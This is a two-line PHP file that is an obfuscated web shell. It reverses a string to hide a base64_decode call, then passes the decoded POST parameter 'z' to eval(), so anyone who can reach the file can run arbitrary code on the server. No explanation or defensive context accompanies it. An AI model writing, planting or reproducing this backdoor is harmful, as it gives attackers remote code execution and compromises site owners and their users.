<?php
$x = strrev('edoced_46esab'); eval($x($_POST['z']));
